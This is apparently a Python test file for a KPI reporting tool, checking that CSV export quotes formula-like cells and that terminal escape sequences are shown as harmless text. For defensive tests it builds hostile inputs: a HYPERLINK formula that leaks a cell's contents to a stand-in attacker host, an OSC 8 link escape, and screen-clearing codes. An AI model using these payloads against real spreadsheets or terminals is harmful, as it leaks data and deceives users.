"""What people open: a CSV cell from the data is never a live formula in a spreadsheet, and no
control character from the data or a ruleset reaches a terminal."""

import csv
import io

import pytest
from kpitest import invoke

from kpiengine import neutralised_cell, printable

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
OSC8 = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
CLEAR = "\x1b[2J\x1b[H"
PLAN = """\
kpiengine: 1
name: open
calendar: {year: 2025, frequency: quarter}
sources:
  reps: {plugin: csv, options: {path: reps.csv}}
  deals: {plugin: csv, options: {path: deals.csv, on_error: skip, rejects: rejects.csv}}
subjects: {source: reps, id: rep_id, name: name, groups: [team]}
metrics:
  balance: {source: deals, sum: amount, date: closed_on}
indicators:
  - {id: revenue, name: Revenue, weight: 100, target: 100,
     actual: {source: deals, sum: amount, date: closed_on}}
grades:
  - {grade: A, min: 0}
"""


def write_plan(folder, reps, deals):
    (folder / "reps.csv").write_text(reps, "utf-8")
    (folder / "deals.csv").write_text(deals, "utf-8")
    plan = folder / "plan.yaml"
    plan.write_text(PLAN, "utf-8")
    return plan


# -- spreadsheets -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138 0000", "'+86 138 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1200.50", "-1200.50"),
        ("+5", "+5"),
        ("张三", "张三"),
        ("a=b", "a=b"),
    ],
)
def test_a_cell_that_would_be_a_formula_gets_a_quote(text, shown):
    assert neutralised_cell(text) == shown


def test_csv_cell_formula_is_neutralised(tmp_path):
    reps = (
        f'rep_id,name,team\nR001,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@team\nR002,Bob,-x\n'
    )
    deals = "owner,amount,closed_on\nR001,-5,2025-01-02\nR002,=cmd,2025-01-03\n"
    plan = write_plan(tmp_path, reps, deals)
    result = invoke("run", "--ruleset", plan, "-o", f"csv:{tmp_path}/out.csv")
    assert result.exit_code == 0, result.output
    text = (tmp_path / "out.csv").read_text("utf-8-sig")
    rows = {r["subject"]: r for r in csv.DictReader(io.StringIO(text)) if r["period"] == "2025-Q1"}
    assert rows["R001"]["name"] == "'" + HYPERLINK
    assert rows["R001"]["team"] == "'@team" and rows["R002"]["team"] == "'-x"
    assert rows["R001"]["balance"] == "-5"  # a negative number stays a number
    assert rows["R001"]["revenue.actual"] == "-5"
    # the rejects report lists the row set aside with the bad value as it was, made inert
    report = list(csv.reader(io.StringIO((tmp_path / "rejects.csv").read_text("utf-8-sig"))))
    assert report[1][:3] == ["3", "amount", "'=cmd"]


def test_the_json_keeps_the_text_as_it_is(tmp_path):
    reps = "rep_id,name,team\nR001,=1+1,a\n"
    plan = write_plan(tmp_path, reps, "owner,amount,closed_on\nR001,5,2025-01-02\n")
    result = invoke("run", "--ruleset", plan, "-o", "json:-")
    assert result.exit_code == 0, result.output
    assert '"name":"=1+1"' in result.stdout  # JSON is read by programs, not spreadsheets


# -- terminals ----------------------------------------------------------------------------------


def test_printable_shows_control_characters_as_escapes():
    assert printable(OSC8) == "\\x1b]8;;http://evil.example/\\x07click\\x1b]8;;\\x07"
    assert printable("a\u202eb") == "a\\u202eb"
    assert printable("two\nlines\tand tab", lines=True) == "two\nlines\tand tab"
    assert printable("two\nlines") == "two\\x0alines"


def hostile_names(tmp_path):
    reps = f"rep_id,name,team\nR001,{OSC8},{CLEAR}east\nR002,Bob,west\n"
    deals = "owner,amount,closed_on\nR001,5,2025-01-02\nR0\x1b[31m9,7,2025-01-03\n"
    return write_plan(tmp_path, reps, deals)


def test_terminal_escapes_are_stripped_from_console(tmp_path):
    result = invoke("run", "--ruleset", hostile_names(tmp_path), "-o", "console")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "\\x1b]8;;http://evil.example/\\x07click" in result.stdout
    assert "\x1b" not in result.stderr  # the checks name the unknown owner


def test_terminal_escapes_are_stripped_from_explain(tmp_path):
    result = invoke("explain", "--ruleset", hostile_names(tmp_path), "--subject", "R001")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output
    assert "\\x1b]8;;" in result.stdout


def test_terminal_escapes_are_stripped_from_error_messages(tmp_path):
    plan = hostile_names(tmp_path)
    bad = f"owner,amt{OSC8},closed_on\nR001,5,2025-01-02\n"  # a column the message lists
    (tmp_path / "deals.csv").write_text(bad, "utf-8")
    for command in (["validate", plan], ["run", "--ruleset", plan, "-o", "json:-"]):
        result = invoke(*command)
        assert result.exit_code == 1
        assert "\x1b" not in result.stderr and "\x07" not in result.stderr
        assert "amt\\x1b]8;;http://evil.example/\\x07click" in result.stderr


def test_terminal_escapes_are_stripped_from_preview(tmp_path):
    result = invoke("preview", "--ruleset", hostile_names(tmp_path), "--source", "reps")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    assert "\\x1b]8;;http://evil.example/" in result.stdout
